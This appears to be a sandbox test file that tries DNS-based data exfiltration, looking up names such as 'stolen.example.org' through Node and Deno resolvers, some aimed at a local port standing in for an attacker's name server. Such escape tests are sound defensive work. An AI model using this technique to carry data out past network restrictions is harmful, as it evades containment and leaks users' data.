// goal: carry data out in the names of hosts, asked of a name server of the attacker's
// not on browser: a browser looks names up only to connect, which the network attacks try
await attack.inThread(async ({ given: { udpPort }, reach, node, Deno }) => {
  const dns = await node("dns");
  await reach("lookup", async () => (await dns.promises.lookup("stolen.localhost")).address);
  await reach("resolve", () => dns.promises.resolve4("stolen.example.org"));
  await reach("a resolver of one's own", () => {
    const resolver = new dns.promises.Resolver({ timeout: 300, tries: 1 });
    resolver.setServers([`127.0.0.1:${udpPort}`]);
    return resolver.resolve4("stolen.example.org");
  });
  await reach("Deno.resolveDns", () => {
    return Deno.resolveDns("stolen.example.org", "A", { nameServer: { ipAddr: "127.0.0.1", port: udpPort } });
  });
});

export const step = (params: unknown) => params;
